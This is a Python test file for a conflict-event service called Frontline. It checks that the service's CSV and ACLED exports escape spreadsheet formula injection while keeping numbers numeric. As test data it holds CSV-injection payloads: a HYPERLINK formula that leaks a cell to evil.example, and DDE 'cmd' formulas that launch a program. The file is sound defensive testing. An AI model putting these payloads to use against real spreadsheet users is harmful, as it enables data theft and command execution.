"""Every CSV Frontline writes is safe to open in a spreadsheet (OWASP CSV injection).

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written
with a ``'`` in front, so that Excel, LibreOffice or Google Sheets show it as text instead of
running it (``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0``); numbers (a negative longitude, an
ACLED row's own ``-70.12``) stay numbers. The ACLED export still imports again as all
duplicates: Frontline's reader removes the escape from a file Frontline wrote.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any, Final

import asyncpg
from litestar import Litestar
from litestar.testing import AsyncTestClient

from service.interop import acled
from tests.api.conftest import stored_count
from tests.payloads import event_json

Client = AsyncTestClient[Litestar]

#: Payloads seen in the attack run, in every text field a client controls.
FORMULAS: Final = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
)
TAB_FORMULA: Final = "\t=1+1"
CR_FORMULA: Final = "\r=1+1"
NUMBER: Final = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
CSV_TYPE: Final = "text/csv; charset=utf-8"


def _table(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def _runnable(table: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run as a formula: a formula character first, and not
    a plain number."""
    return [
        cell
        for row in table
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)
    ]


def _hostile(n: int, formula: str, **changes: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "place": {"id": f"sy-hostile-{n}", "name": formula, "lat": -33.45, "lon": -70.66},
        "actor": formula,
        "source": {"name": formula, "attribution": formula},
        "quote": formula,
    }
    return event_json(**{**fields, **changes})


async def _post_hostile(client: Client) -> None:
    events = [_hostile(n, formula) for n, formula in enumerate(FORMULAS)]
    events.append(_hostile(9, "plain", quote=TAB_FORMULA, notes=CR_FORMULA))
    for event in events:
        response = await client.post("/v1/events", json=event)
        assert response.status_code == 201, response.text


async def test_the_log_csv_neutralises_formulas_and_keeps_numbers(client: Client) -> None:
    """The log as CSV: no cell a spreadsheet would run; each formula comes back as text
    behind a ``'``; positions and counts stay numbers; the type says its charset once."""
    await _post_hostile(client)
    response = await client.get("/v1/export", params={"format": "csv"})
    assert response.headers["content-type"] == CSV_TYPE
    table = _table(response.content)
    assert _runnable(table) == []
    sources = [row[table[0].index("source")] for row in table[1:]]
    assert sources[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert [row[0] for row in table[1:]] == [str(n) for n in range(1, len(FORMULAS) + 2)]


async def test_the_front_csv_neutralises_formulas_and_keeps_numbers(client: Client) -> None:
    """The front as CSV: place names and sources behind a ``'``; a negative longitude is
    still a number; the type says its charset once."""
    await _post_hostile(client)
    response = await client.get("/v1/state", params={"valid_at": "2017-06-05", "format": "csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == CSV_TYPE
    table = _table(response.content)
    assert _runnable(table) == []
    header = table[0]
    rows = {row[0]: dict(zip(header, row, strict=True)) for row in table[1:]}
    first = rows["sy-hostile-0"]
    assert first["name"] == "'" + FORMULAS[0]
    assert (first["lat"], first["lon"]) == ("-33.45", "-70.66")
    assert rows["sy-hostile-2"]["sources"] == "'" + FORMULAS[2]


async def test_the_acled_export_neutralises_formulas_and_keeps_numbers(client: Client) -> None:
    """The ACLED export, of events posted to Frontline: actor, location, source and notes
    behind a ``'`` (the tab and carriage return formulas too); latitude, longitude and
    fatalities stay numbers."""
    await _post_hostile(client)
    response = await client.get("/v1/export", params={"format": "acled"})
    assert response.headers["content-type"] == CSV_TYPE
    table = _table(response.content)
    assert _runnable(table) == []
    header = table[0]
    rows = [dict(zip(header, row, strict=True)) for row in table[1:]]
    assert [r["actor1"] for r in rows[: len(FORMULAS)]] == ["'" + f for f in FORMULAS]
    assert {r["location"] for r in rows[: len(FORMULAS)]} == {"'" + f for f in FORMULAS}
    assert (rows[0]["latitude"], rows[0]["longitude"]) == ("-33.45", "-70.66")
    assert rows[-1]["notes"] == "'" + TAB_FORMULA


ACLED_ROW: Final = {
    "event_id_cnty": "SYR99001",
    "event_date": "2017-06-03",
    "year": "2017",
    "time_precision": "1",
    "sub_event_type": "Armed clash",
    "actor1": "-2+3+cmd|' /C calc'!A0",
    "actor2": "@SUM(1+1)",
    "location": "=cmd|' /C calc'!A0",
    "latitude": "-33.4500",
    "longitude": "-70.6600",
    "source": '=HYPERLINK("http://evil.example/","x")',
    "notes": "'=already quoted, and -1 inside",
    "fatalities": "3",
    "timestamp": "1497571200",
}


async def test_an_escaped_acled_export_imports_again_as_all_duplicates(
    client: Client, owner: asyncpg.Connection
) -> None:
    """An ACLED file with formula cells (and a cell that already starts with ``'=``) is
    imported; its ACLED export neutralises them (numbers kept as they were written, as
    text like ``-70.6600``), and importing that export again stores nothing new: every
    event is a duplicate, every kept row equal to the original."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=acled.COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerow({column: ACLED_ROW.get(column, "") for column in acled.COLUMNS})
    first = await client.post("/v1/imports?format=acled", content=out.getvalue().encode())
    assert first.status_code == 201, first.text
    assert (first.json()["accepted"], first.json()["rejected"]) == (2, 0)
    exported = await client.get("/v1/export", params={"format": "acled"})
    table = _table(exported.content)
    assert _runnable(table) == []
    row = dict(zip(table[0], table[1], strict=True))
    assert row["actor1"] == "'" + ACLED_ROW["actor1"]
    assert row["notes"] == "'" + ACLED_ROW["notes"]
    assert (row["latitude"], row["longitude"], row["fatalities"]) == ("-33.4500", "-70.6600", "3")
    again = await client.post("/v1/imports?format=acled", content=exported.content)
    assert again.status_code == 200, again.text
    result = again.json()
    assert (result["accepted"], result["duplicate"], result["rejected"]) == (0, 2, 0)
    assert await stored_count(owner) == 2
